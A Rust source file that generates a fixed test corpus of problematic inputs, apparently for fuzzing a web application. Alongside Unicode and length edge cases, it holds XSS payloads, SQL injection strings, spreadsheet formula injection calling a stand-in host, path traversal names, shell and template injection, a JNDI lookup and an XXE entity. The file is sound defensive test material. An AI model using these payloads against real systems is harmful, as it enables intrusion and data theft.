//! Texts that systems stumble over, made up here by kinds: no list of anybody else's is among them.

/// All of them, each once, in an order that never changes.
pub(super) fn texts() -> Vec<String> {
    let mut all: Vec<String> = Vec::new();
    for made in [
        controls(),
        directions(),
        invisibles(),
        spaces(),
        marks_and_planes(),
        lengths(),
        markup(),
        attributes(),
        formulas(),
        file_names(),
        statements(),
        templates(),
        numbers(),
        words(),
        scripts(),
        addresses(),
    ] {
        for text in made {
            if !all.contains(&text) {
                all.push(text);
            }
        }
    }
    all
}

fn owned(texts: &[&str]) -> Vec<String> {
    texts.iter().map(|text| (*text).to_owned()).collect()
}

/// C0, DEL and C1, each inside a word, where nothing trims it.
fn controls() -> Vec<String> {
    (0..0x20_u32).chain(0x7f..0xa0).filter_map(char::from_u32).map(|c| format!("Con{c}trol")).collect()
}

/// What turns the direction of writing.
fn directions() -> Vec<String> {
    let marks = "\u{202a}\u{202b}\u{202c}\u{202d}\u{202e}\u{2066}\u{2067}\u{2068}\u{2069}\u{200e}\u{200f}\u{061c}";
    marks.chars().flat_map(|mark| [format!("gpj{mark}exe"), format!("{mark}name"), format!("name{mark}")]).collect()
}

/// What nobody sees: pasted along, joining, filling, tagging.
fn invisibles() -> Vec<String> {
    let marks = "\u{feff}\u{200b}\u{200c}\u{200d}\u{2060}\u{00ad}\u{180e}\u{034f}\u{115f}\u{1160}\u{3164}\u{ffa0}\u{2800}\
                 \u{fff9}\u{fffb}\u{fffc}\u{fffd}\u{2061}\u{2063}\u{e0001}\u{e0041}\u{fe0f}\u{1d173}";
    marks.chars().flat_map(|mark| [mark.to_string(), format!("in{mark}side"), format!("{mark}around{mark}")]).collect()
}

/// Every blank there is, alone, between words, and at the edges.
fn spaces() -> Vec<String> {
    let blanks = " \u{a0}\u{1680}\u{2000}\u{2001}\u{2002}\u{2003}\u{2004}\u{2005}\u{2006}\u{2007}\u{2008}\u{2009}\u{200a}\
                  \u{202f}\u{205f}\u{3000}";
    let mut made: Vec<String> = blanks
        .chars()
        .flat_map(|blank| [blank.to_string(), format!("two{blank}{blank}words"), format!("{blank}edge{blank}")])
        .collect();
    made.push("line\u{2028}break".to_owned());
    made.push("para\u{2029}break".to_owned());
    made
}

/// Marks upon marks, halves of pairs as they are written, private characters and the last of each plane.
fn marks_and_planes() -> Vec<String> {
    let heap: String = core::iter::once('a').chain((0x300..0x340).filter_map(char::from_u32)).collect();
    let mut made = owned(&[
        "e\u{301}e\u{301}",
        "\u{e9}",
        "\u{301}alone",
        "\u{1112}\u{1161}\u{11ab}",
        "\u{212b}ngstr\u{f6}m",
        "a\u{fe00}b",
        "\u{e000}private",
        "\u{fffe}x",
        "\u{ffff}x",
        "x\u{1fffe}",
        "x\u{10ffff}",
        "\u{1d54f}\u{1d4d0}",
        "\\ud800\\udc00",
        "&#xD800;&#xDFFF;",
        "%ED%A0%80%C0%80",
        "\u{fb01}\u{fb00}\u{1f3}",
        "\u{130}stanbul \u{131}",
        "stra\u{df}e STRA\u{1e9e}E",
    ]);
    made.push(heap);
    made
}

/// Just below, at and above what fields allow, and far beyond.
fn lengths() -> Vec<String> {
    let mut made = Vec::new();
    for length in [1, 2, 3, 20, 21, 63, 64, 65, 119, 120, 121, 199, 200, 201, 253, 254, 255, 256, 320, 321, 1000, 4000]
    {
        for letter in ["x", "\u{e5}", "\u{1f600}a"] {
            made.push(letter.repeat(length / letter.chars().count()));
        }
    }
    made
}

/// Each thing that would run or lead away, behind each thing that would close what it stands in.
fn markup() -> Vec<String> {
    const CLOSERS: [&str; 18] = [
        "",
        "</title>",
        "</textarea>",
        "\">",
        "'>",
        "-->",
        "--!>",
        "]]>",
        "</script>",
        "</style>",
        "</noscript>",
        "</option></select>",
        "</svg>",
        "</td></tr></table>",
        "</leptos-island>",
        "<!--",
        "<![CDATA[",
        "</head>",
    ];
    const PAYLOADS: [&str; 19] = [
        "<script>x()</script>",
        "<img src=x onerror=x()>",
        "<svg/onload=x()>",
        "<iframe src=//e>",
        "<a href=javascript:x()>x</a>",
        "<meta http-equiv=refresh content=0;//e>",
        "<base href=//e/>",
        "<form action=//e><input>",
        "<b>x</b>",
        "<x:y z>",
        "<style>*{}</style>",
        "<math><mi//x>",
        "<input autofocus onfocus=x()>",
        "<link rel=stylesheet href=//e>",
        "<details open ontoggle=x()>",
        "<body onload=x()>",
        "&lt;script&gt;x",
        "&#60;b&#62;x",
        "<template><p>x",
    ];
    CLOSERS.iter().flat_map(|closer| PAYLOADS.map(|payload| format!("{closer}{payload}"))).collect()
}

fn attributes() -> Vec<String> {
    owned(&[
        "\" onclick=\"x()",
        "' onclick='x()",
        "` onclick=`x()",
        "x onclick=x()",
        "x\" style=\"background:url(//e)",
        "javascript:x()",
        "JaVaScRiPt:x()",
        "java&Tab;script:x()",
        "data:text/html,<b>x",
        "vbscript:x()",
        "//e.example",
        "https:e.example",
        "/\\e.example",
        "&quot; onclick=x()",
        "&#34;&#39;&amp;&amp;amp;",
        "&notit; &copy &reg;x",
        "<<b>>x<</b>>",
        "a<b and b>c & d",
        "x>y<!DOCTYPE html>",
        "<?php x(); ?>",
        "<%= x() %>",
        "\\\"><b>x",
    ])
}

/// What a spreadsheet would take for a formula.
fn formulas() -> Vec<String> {
    let bodies = [
        "1+1",
        "cmd|' /C calc'!A0",
        "HYPERLINK(\"//e\",\"x\")",
        "SUM(A1:A9)",
        "WEBSERVICE(\"//e\")",
        "IMPORTXML(\"//e\",\"//a\")",
    ];
    let begins = ["=", "+", "-", "@", "|", "%", ";=", "\"=", "'="];
    begins.iter().flat_map(|begin| bodies.map(|body| format!("{begin}{body}"))).collect()
}

fn file_names() -> Vec<String> {
    let devices = |n| [format!("COM{n}"), format!("LPT{n}"), format!("COM{n}.txt"), format!("LPT{n}.txt")];
    let mut made: Vec<String> = (1..=9).flat_map(devices).collect();
    for depth in [1, 3, 8] {
        for (up, target) in
            [("../", "etc/passwd"), ("..\\", "boot.ini"), ("%2e%2e%2f", "x"), ("..%252f", "x"), ("....//", "x")]
        {
            made.push(format!("{}{target}", up.repeat(depth)));
        }
    }
    let between =
        ["/", "\\", ":", "*", "?", "\"", "<", ">", "|", "%00", "%0a", ";", "&", "#", "~", "^", "{", "}", "[", "]"];
    made.extend(between.map(|between| format!("a{between}b.txt")));
    made.extend(owned(&[
        "CON",
        "PRN",
        "AUX",
        "NUL",
        "nul.html",
        ".",
        "..",
        "...",
        ".htaccess",
        ".env",
        "a.php.jpg",
        "a.html;.jpg",
        "a.",
        "a .txt",
        "-rf",
        "--help",
        "/etc/passwd",
        "C:\\Windows\\win.ini",
        "\\\\host\\share",
        "file:///etc/passwd",
        "a.svg",
        "desktop.ini",
        "Thumbs.db",
        "~root",
        "$HOME",
        "%TEMP%",
        "a'b.txt",
        "a`b`.txt",
        "a\u{2044}b",
        "a\u{ff0f}b",
        "caf\u{e9}.txt",
        "cafe\u{301}.txt",
        "\u{1f4c4}.txt",
        "a.txt.exe",
        "index.html#x",
        "a?download=1",
        "a=b&c=d.txt",
    ]));
    made
}

fn statements() -> Vec<String> {
    owned(&[
        "' OR '1'='1",
        "' OR 1=1--",
        "'; DROP TABLE org; --",
        "\" OR \"\"=\"",
        "1; ATTACH DATABASE 'x' AS x",
        "x' UNION SELECT name FROM person --",
        "x') OR ('1'='1",
        "x'||(SELECT 1)||'",
        "'; SELECT pg_sleep(5); --",
        "x%' ESCAPE '!",
        "100%",
        "a_b",
        "%%__%%",
        "\\",
        "\\'",
        "x\\' OR 1=1",
        "$1 $2 $3",
        "?1 ?2",
        ":name @name",
        "/* x */ 1",
        "E'\\x41'",
        "{uuid} {json} {time}",
        "O'Brien",
        "''''",
    ])
}

fn templates() -> Vec<String> {
    owned(&[
        "{{7*7}}",
        "${7*7}",
        "#{7*7}",
        "<%=7*7%>",
        "{%raw%}x{%endraw%}",
        "{ $name }",
        "{ -product }",
        "{\"quoted\"}",
        "{ NUMBER($x) }",
        "{",
        "}",
        "{value}",
        "%s%n%x%d",
        "%(name)s",
        "{0}{1}",
        "$(id)",
        "`id`",
        "|id",
        ";id",
        "&&id",
        "\\n\\r\\t",
        "\\u0000",
        "\\x00x",
        "%00",
        "%0d%0aX-Y: z",
        "{\"a\":[1,null]}",
        "[\"a\",\"b\"]",
        "a,b;c",
        "a: &b *b",
        "---",
        "#!/bin/sh",
        "${jndi:ldap://e/x}",
        "!!python/object:x",
        "<!ENTITY x SYSTEM \"//e\">",
        "\"",
    ])
}

fn numbers() -> Vec<String> {
    owned(&[
        "0",
        "-0",
        "00",
        "1",
        "-1",
        "+1",
        "1e309",
        "1e-400",
        "NaN",
        "Infinity",
        "-Infinity",
        "0x10",
        "0b1",
        "0o7",
        "1_000",
        "1,000.00",
        "1.000,00",
        "1/0",
        "2147483648",
        "9223372036854775808",
        "18446744073709551616",
        "65535",
        "65536",
        "-32769",
        "\u{ff19}\u{ff19}",
        "\u{661}\u{662}\u{663}",
        "\u{bd}",
        "\u{b2}",
        "\u{2167}",
        "1\u{a0}000",
        "0.1",
        "1e3",
        "12345678901234567890",
    ])
}

fn words() -> Vec<String> {
    owned(&[
        "null",
        "NULL",
        "undefined",
        "true",
        "false",
        "None",
        "nil",
        "(null)",
        "[object Object]",
        "__proto__",
        "constructor",
        "toString",
        "hasOwnProperty",
        "then",
        "valueOf",
        "admin",
        "root",
        "system",
        "localhost",
        "default",
        "select",
        "new",
        "users",
        "settings",
        "everything",
        "administrator",
        "me",
        "yes",
        "no",
        "on",
        "off",
    ])
}

/// Names as people have them, in many scripts and both directions, and pictures.
fn scripts() -> Vec<String> {
    owned(&[
        "\u{738b}\u{79c0}\u{82f1}",
        "\u{5c71}\u{7530} \u{592a}\u{90ce}",
        "\u{ae40}\u{cca0}\u{c218}",
        "\u{d1}and\u{fa} \u{c5}\u{c6}\u{d8}",
        "\u{627}\u{644}\u{634}\u{645}\u{627}\u{644}",
        "\u{5d0}\u{5d1}\u{5d2} \u{5d3}",
        "abc \u{627}\u{644} def",
        "\u{e01}\u{e34}\u{e19}",
        "\u{928}\u{92e}\u{938}\u{94d}\u{924}\u{947}",
        "\u{ba4}\u{bae}\u{bbf}\u{bb4}\u{bcd}",
        "\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467}a",
        "\u{1f1f3}\u{1f1f4}",
        "\u{1f44d}\u{1f3fd} ok",
        "\u{2764}\u{fe0f}",
        "1\u{fe0f}\u{20e3}",
        "\u{ff21}\u{ff22}\u{ff23}",
        "\u{391}\u{3a9}\u{2126}",
        "\u{430}dmin",
        "p\u{430}ypal",
        "X \u{c6} A-12",
        "Jr., Bob (the 3rd)",
        "D'Arcy-O\u{2019}Neil",
        "?!.,;:-_*",
    ])
}

/// What a header or a list of addresses would take for something else.
fn addresses() -> Vec<String> {
    owned(&[
        "x@y.example",
        "X.Y+tag@Sub.Y.Example",
        "\"x\" <y@z.example>",
        "x@y.example, z@y.example",
        "x@y.example;z@y.example",
        "x@y.example%0aBcc:z@y.example",
        "=?utf-8?q?x?=",
        "x@[127.0.0.1]",
        "x@localhost",
        "@y.example",
        "x@@y.example",
        "x@y..example",
        ".x@y.example",
        "x@-y.example",
        "x@y.example.",
        "mailto:x@y.example",
        "o'neil&co@y.example",
        "y.example",
        "Y.EXAMPLE",
        "xn--bcher-kva.example",
        "b\u{fc}cher.example",
        "a.b.c.d.example",
        "example",
        "y_z.example",
        "ABC-123",
        "abc 123",
        "A--B",
    ])
}

#[test]
fn r14_the_corpus_has_every_kind_in_number() {
    let (all, kinds) = (texts(), [markup().len(), formulas().len(), file_names().len()]);
    assert!(all.len() >= 965, "{} texts", all.len());
    assert!(kinds[0] >= 300 && kinds[1] >= 50 && kinds[2] >= 100, "{kinds:?}");
    assert_eq!(texts(), all, "the order never changes");
}
